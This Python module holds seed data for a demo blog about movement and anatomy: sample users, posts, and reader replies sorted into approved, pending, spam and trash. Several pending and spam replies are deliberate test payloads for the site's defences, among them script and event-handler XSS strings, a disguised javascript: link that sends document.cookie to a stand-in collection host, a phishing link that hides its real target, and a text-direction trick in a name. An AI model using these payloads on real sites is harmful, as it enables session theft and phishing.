"""What an empty site is filled with, so that a newcomer finds a page to read and a queue with something to decide.

Data only. The people, posts and addresses are invented; some replies are hostile on purpose, to show what becomes of
them.
"""

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

SITE_TITLE = "The Moving Room"
POSTS_FOLDER = Path(__file__).parent / "posts"


@dataclass(frozen=True)
class SamplePerson:
    """Somebody who can sign in; `role` is admin, editor, author or moderator."""

    key: str
    name: str
    email: str
    role: str


@dataclass(frozen=True)
class SamplePost:
    """A post; one without `published_at` is a draft. `author` is the key of a person."""

    key: str
    author: str
    title: str
    slug: str
    body_file: str
    excerpt: str
    tags: tuple[str, ...]
    published_at: datetime | None = None

    @property
    def published(self) -> bool:
        return self.published_at is not None


@dataclass(frozen=True)
class SampleDecision:
    """What a moderator did with a reply: approve, hold, spam or trash, so many minutes after it arrived."""

    action: str
    minutes_later: int
    reason: str = ""
    by: str = "mo"


@dataclass(frozen=True)
class SampleReply:
    """A reply as its writer sent it, and the decisions that followed.

    Exactly one of `minutes_after_post` and `minutes_ago` is set. `by` is the key of a person who replied signed in: it
    is public at once. `seconds_taken` is None where no script filled the time trap; `trap` is what the honeypot held.
    """

    key: str
    post: str
    name: str
    email: str
    text: str
    parent: str | None = None
    url: str = ""
    minutes_after_post: int | None = None
    minutes_ago: int | None = None
    seconds_taken: float | None = 90.0
    trap: str = ""
    by: str | None = None
    then: tuple[SampleDecision, ...] = ()

    @property
    def status(self) -> str:
        """Where the decisions leave it: pending, approved, spam or trash."""
        if self.then:
            return STATUS_AFTER[self.then[-1].action]
        return "approved" if self.by else "pending"


STATUS_AFTER = {"approve": "approved", "hold": "pending", "spam": "spam", "trash": "trash"}


def body_of(post: SamplePost) -> str:
    return (POSTS_FOLDER / post.body_file).read_text(encoding="utf-8")


def written_at(reply: SampleReply, now: datetime) -> datetime:
    """When a reply arrived, on a site that is filled at `now`."""
    if reply.minutes_ago is not None:
        return now - timedelta(minutes=reply.minutes_ago)
    published_at = next(post.published_at for post in POSTS if post.key == reply.post)
    if published_at is None or reply.minutes_after_post is None:
        raise ValueError(f"reply {reply.key} has no time")
    return published_at + timedelta(minutes=reply.minutes_after_post)


def approved(minutes_later: int, by: str = "mo") -> tuple[SampleDecision, ...]:
    return (SampleDecision("approve", minutes_later, by=by),)


def spam(minutes_later: int, reason: str = "") -> tuple[SampleDecision, ...]:
    return (SampleDecision("spam", minutes_later, reason),)


HOUR = 60
DAY = 24 * HOUR

PEOPLE = (
    SamplePerson("ada", "Ada Holmqvist", "ada@example.org", "admin"),
    SamplePerson("edith", "Edith Carraway", "edith@example.org", "editor"),
    SamplePerson("arthur", "Arthur Fennimore", "arthur@example.org", "author"),
    SamplePerson("mo", "Mo Adeyinka", "mo@example.org", "moderator"),
)

POSTS = (
    SamplePost(
        key="psoas",
        author="arthur",
        title="Anatomy Spotlight: Psoas",
        slug="anatomy-spotlight-psoas",
        body_file="anatomy-spotlight-psoas.md",
        excerpt="It starts beside the spine, ends on the thigh bone, and is blamed for far more than it does. "
        "Three facts about a muscle that most of us will never see.",
        tags=("anatomy", "hip", "spine"),
        published_at=datetime(2014, 5, 6, 8, 30, tzinfo=UTC),
    ),
    SamplePost(
        key="floor",
        author="edith",
        title="Ten Minutes on the Floor",
        slug="ten-minutes-on-the-floor",
        body_file="ten-minutes-on-the-floor.md",
        excerpt="Getting down and up again is the oldest exercise there is. A small programme for four weeks, "
        "with a table to pin on the wall.",
        tags=("practice", "spine", "beginners"),
        published_at=datetime(2014, 8, 19, 6, 45, tzinfo=UTC),
    ),
    SamplePost(
        key="step",
        author="arthur",
        title="One Step, Drawn Forty Times",
        slug="one-step-drawn-forty-times",
        body_file="one-step-drawn-forty-times.md",
        excerpt="What a leg does between one heel strike and the next, in a single picture.",
        tags=("walking", "anatomy"),
        published_at=datetime(2014, 10, 14, 16, 5, tzinfo=UTC),
    ),
    SamplePost(
        key="breath",
        author="arthur",
        title="Breathing Is a Movement Too",
        slug="breathing-is-a-movement-too",
        body_file="breathing-is-a-movement-too.md",
        excerpt="",
        tags=("anatomy", "breath"),
    ),
)

APPROVED = (
    SampleReply(
        key="rhea-asks",
        post="psoas",
        name="Rhea Sandell",
        email="rhea@example.org",
        text="I drive a delivery van and the front of my right hip aches by Thursday. I had always been told that "
        'my psoas is "short from sitting" and that I should stretch it every evening.\n\n'
        "After reading this I am not so sure any more. Can one find out whether it is *short* or just *tired*?",
        minutes_after_post=95,
        seconds_taken=214.0,
        then=approved(20),
    ),
    SampleReply(
        key="arthur-answers",
        post="psoas",
        parent="rhea-asks",
        name="Arthur Fennimore",
        email="arthur@example.org",
        text="Good question, Rhea. Sit tall, lift one knee a hand's breadth off the seat and hold it for a slow count "
        "of twenty, without leaning back. If that side gives up long before the other, it probably wants **work**, "
        "not stretching.\n\nIt is a hint and no diagnosis. An ache that comes back every week deserves a visit.",
        minutes_after_post=3 * HOUR,
        seconds_taken=None,
        by="arthur",
    ),
    SampleReply(
        key="rhea-tries",
        post="psoas",
        parent="arthur-answers",
        name="Rhea Sandell",
        email="rhea@example.org",
        text="Eleven seconds on the right, twenty on the left. Well, there we are.",
        minutes_after_post=4 * HOUR,
        seconds_taken=31.5,
        then=approved(12, by="arthur"),
    ),
    SampleReply(
        key="tomasz-adds",
        post="psoas",
        parent="rhea-tries",
        name="Tomasz Wilczek",
        email="tomasz@example.net",
        url="https://bike-and-back.example.net/",
        text="> Eleven seconds on the right\n\n"
        "I had nine! What helped me was doing it at red lights: three lifts per light, no more. "
        "After a month I stopped counting.",
        minutes_after_post=DAY + 2 * HOUR,
        then=approved(6 * HOUR),
    ),
    SampleReply(
        key="rhea-reports",
        post="psoas",
        parent="tomasz-adds",
        name="Rhea Sandell",
        email="rhea@example.org",
        text="Six weeks later: nineteen seconds, and no ache last Thursday. Thank you both. "
        "The people in the next lane think that I am dancing.",
        minutes_after_post=43 * DAY,
        seconds_taken=75.0,
        then=approved(40),
    ),
    SampleReply(
        key="elodie-teaches",
        post="psoas",
        name="Élodie Garance",
        email="elodie@example.com",
        text="Merci pour ce dessin ! Je l'ai montré à mes élèves : presque toutes plaçaient le psoas "
        "« quelque part dans le ventre ». Une seule savait qu'il finit derrière, au petit trochanter.",
        minutes_after_post=DAY,
        then=approved(55),
    ),
    SampleReply(
        key="yuki-thanks",
        post="psoas",
        name="佐々木 ゆき",
        email="yuki@example.com",
        text="図がとても分かりやすいです。腸骨筋との関係がやっと理解できました。ありがとうございます。",
        minutes_after_post=2 * DAY + 5 * HOUR,
        seconds_taken=None,
        then=approved(9 * HOUR),
    ),
    SampleReply(
        key="kofi-lists",
        post="psoas",
        name="Kofi Danso-Hale",
        email="kofi@example.org",
        url="https://stairs.example.org/",
        text="For anyone who wants to feel it rather than read about it, this is what we did in class:\n\n"
        "1. lie on your back, one knee drawn to the chest;\n"
        "2. let the other leg grow long on the floor;\n"
        "3. breathe out, and wait for the back of that thigh to get heavy.\n\n"
        "Nobody needed more than five breaths.",
        minutes_after_post=3 * DAY,
        seconds_taken=340.0,
        then=approved(2 * HOUR),
    ),
    SampleReply(
        key="nadia-links",
        post="psoas",
        parent="kofi-lists",
        name="Nadia Verhoeven",
        email="nadia@example.net",
        text="We do nearly the same with a rolled towel under the heel. I have drawn the three steps for our waiting "
        "room, take them if they are of use: [the towel sheet](https://waiting-room.example.net/towel).",
        minutes_after_post=3 * DAY + 7 * HOUR,
        then=approved(80),
    ),
    SampleReply(
        key="imogen-calms",
        post="psoas",
        parent="dale-rants",
        name="Imogen Treloar",
        email="imogen@example.org",
        text="Long days make all of us short. For what it is worth, my doctor *was* the one who sent me here, "
        "so perhaps the two get along better than you think.",
        minutes_after_post=4 * DAY + 3 * HOUR,
        then=approved(25),
    ),
    SampleReply(
        key="zoe-times",
        post="floor",
        name="Zoë Brückner",
        email="zoe@example.com",
        text="I can't look at a clock while lying on my face, so I let the computer ring the changes:\n\n"
        '```\nfor part in rock roll crawl rest; do\n    say "$part"; sleep 150\ndone\n```\n\n'
        "Four parts of two and a half minutes; on my other machine `say` is called `espeak`.",
        minutes_after_post=5 * HOUR,
        seconds_taken=402.0,
        then=approved(HOUR),
    ),
    SampleReply(
        key="per-asks",
        post="floor",
        parent="zoe-times",
        name="Per Åkerblom",
        email="per@example.net",
        text="Lovely. My version is older: one side of a gramophone record, then I turn it over.",
        minutes_after_post=2 * DAY,
        seconds_taken=44.0,
        then=approved(3 * HOUR, by="edith"),
    ),
    SampleReply(
        key="layla-thanks",
        post="step",
        name="ليلى حدّادين",
        email="layla@example.org",
        text="شكرًا على هذا الرسم الجميل. أراقب الآن ركبتي كلما صعدت الدرج، وأمشي أبطأ قليلًا.",
        minutes_after_post=7 * HOUR,
        seconds_taken=128.0,
        then=approved(30),
    ),
    SampleReply(
        key="joan-walks",
        post="step",
        name="Joan",
        email="joan@example.com",
        text="Seventy-eight, new left hip since March. My physio and I found the very line in the printed picture "
        "where mine gets lazy: just after the heel comes up. Now I know what to think about on the way to the shop.",
        minutes_after_post=DAY + 3 * HOUR,
        seconds_taken=510.0,
        then=approved(4 * HOUR),
    ),
)

PENDING = (
    SampleReply(
        key="gareth-claims",
        post="psoas",
        name="Gareth Pomfrey",
        email="gareth@example.com",
        text="My cousin stretched her psoas for a week and her hay fever was gone. They have known it for *years*.",
        minutes_ago=3 * DAY,
        seconds_taken=66.0,
        then=(
            SampleDecision("approve", 30),
            SampleDecision("hold", 5 * HOUR, "Reads like medical advice; I have asked him where it comes from."),
        ),
    ),
    SampleReply(
        key="bea-tests",
        post="psoas",
        name="Bea Quillfeather",
        email="bea@example.net",
        text="Does the drawing show the left or the right side of the person?\n\n"
        '<script>document.title = "Bea was here"</script>\n\n'
        "(Sorry, curious by trade. I hope nothing moved.)",
        minutes_ago=26 * HOUR,
        seconds_taken=88.0,
    ),
    SampleReply(
        key="rolf-decorates",
        post="floor",
        name="Rolf Øyen",
        email="rolf@example.org",
        text="Week three was <b onclick=\"window.open('https://shop.example.net/')\">the best</b> for me. "
        "My own plan is [on my page](javascript:alert('plan')) in case anyone wants to compare.",
        minutes_ago=9 * HOUR,
        seconds_taken=140.0,
    ),
    SampleReply(
        key="cleo-pictures",
        post="step",
        name="Cleo Marchbanks",
        email="cleo@example.com",
        text="This is how mine looks on the treadmill:\n\n"
        '<img src="https://pixel.example.net/step.gif" onerror="alert(1)" alt="me, walking" width="1">\n\n'
        "Could the next post be about running?",
        minutes_ago=5 * HOUR + 10,
        seconds_taken=None,
    ),
    SampleReply(
        key="wilf-unclosed",
        post="floor",
        parent="zoe-times",
        name="Wilf",
        email="wilf@example.org",
        text="<b>Two questions, and I shout because I am excited: is a carpet too soft, and may the dog join in?\n\n"
        "<textarea>The dog is called Biscuit.",
        minutes_ago=3 * HOUR + 25,
        seconds_taken=52.0,
    ),
    SampleReply(
        key="sven-turned",
        post="psoas",
        name="Sven, \u202erotaredom eht\u202c",
        email="sven@example.net",
        text="Great read. A name can be written so that it says one thing and shows another: what do you make of mine?",
        minutes_ago=2 * HOUR,
        seconds_taken=37.0,
    ),
    SampleReply(
        key="pip-hurries",
        post="step",
        name="Pip Larkspur",
        email="pip@example.com",
        text="Beautiful!",
        minutes_ago=48,
        seconds_taken=1.2,
    ),
    SampleReply(
        key="ines-asks",
        post="psoas",
        parent="arthur-answers",
        name="Inés Carrizo",
        email="ines@example.org",
        url="https://manos.example.org/",
        text="I read with a screen reader, and the description of the drawing was the first one in a long time that "
        "let me *see* the thing. ¡Gracias!\n\n"
        "One question about the test with the knee: I can't sit tall for twenty seconds yet. Is it still worth doing "
        "with the back against a wall, or does the wall do the work of the muscle?",
        minutes_ago=17,
        seconds_taken=None,
    ),
)

SPAM = (
    SampleReply(
        key="sol-trap",
        post="psoas",
        name="Sol",
        email="sol@example.com",
        url="https://pills.example.com/",
        text="Hello dear webmaster, what a informative article, I have bookmark it for my brother who search exactly "
        "this topic. Greetings!",
        minutes_after_post=6 * DAY,
        seconds_taken=None,
        trap="https://pills.example.com/best-price",
        then=spam(8 * HOUR, "Filled in the field that people don't see."),
    ),
    SampleReply(
        key="insoles-quick",
        post="step",
        name="Best Insoles 4U",
        email="offers@example.net",
        text="Walk on clouds! <a href='https://insoles.example.net/?id=1'>Insoles</a> "
        "<a href='https://insoles.example.net/?id=2'>cheap insoles</a> "
        "<a href='https://insoles.example.net/?id=3'>insoles today</a> "
        "<a href='https://insoles.example.net/?id=4'>insoles for all of the family</a>",
        minutes_after_post=2 * DAY,
        seconds_taken=0.4,
        then=spam(5 * HOUR),
    ),
    SampleReply(
        key="library-imposter",
        post="floor",
        name="Reading Desk",
        email="desk@example.com",
        text="The study behind this is free to read at "
        "[https://library.example.org/floor-study](https://collect.example.net/login?from=blog), just sign in again.",
        minutes_after_post=9 * DAY,
        seconds_taken=12.0,
        then=spam(2 * HOUR, "The link says one place and goes to another."),
    ),
    SampleReply(
        key="sol-scheme",
        post="floor",
        name="Sol",
        email="sol@example.com",
        text="<a href=\"  JaVaScRiPt:fetch('https://collect.example.net/' + document.cookie)\">You have won a mat</a>"
        '<iframe src="https://collect.example.net/mat"></iframe>',
        minutes_after_post=11 * DAY,
        seconds_taken=4.1,
        then=spam(7 * HOUR),
    ),
    SampleReply(
        key="petra-sells",
        post="psoas",
        parent="kofi-lists",
        name="Petra from the Stretch Shop",
        email="petra@example.net",
        url="https://stretch-shop.example.net/",
        text="So true, Kofi! I say the same to all my customers. Five breaths and a good strap.",
        minutes_after_post=5 * DAY,
        seconds_taken=19.0,
        then=(
            SampleDecision("approve", 30),
            SampleDecision("spam", 2 * DAY, "The same words under three posts, each with the shop's address."),
        ),
    ),
)

TRASH = (
    SampleReply(
        key="dale-rants",
        post="psoas",
        name="Dale",
        email="dale@example.com",
        text="Another blog by people who could not get into medical school. Only a fool would take advice here.",
        minutes_after_post=4 * DAY,
        seconds_taken=24.0,
        then=(
            SampleDecision("approve", 45, by="arthur"),
            SampleDecision("trash", 6 * HOUR, "Disagreeing is welcome, name-calling isn't."),
        ),
    ),
    SampleReply(
        key="joan-again",
        post="step",
        name="Joan",
        email="joan@example.com",
        text="Seventy-eight, new left hip since March. I printed the picture and (did this send? the page jumped)",
        minutes_after_post=DAY + 3 * HOUR - 4,
        seconds_taken=260.0,
        then=(SampleDecision("trash", 4 * HOUR, "Sent by accident; the whole one came four minutes later."),),
    ),
    SampleReply(
        key="hugo-regrets",
        post="floor",
        name="Hugo Lindenau",
        email="hugo@example.org",
        text="I could not get up again without the table, and I am forty-one. Starting today.",
        minutes_after_post=DAY,
        seconds_taken=57.0,
        then=(
            SampleDecision("approve", HOUR),
            SampleDecision("trash", 30 * DAY, "He wrote and asked us to take it down.", by="edith"),
        ),
    ),
)

REPLIES = APPROVED + PENDING + SPAM + TRASH
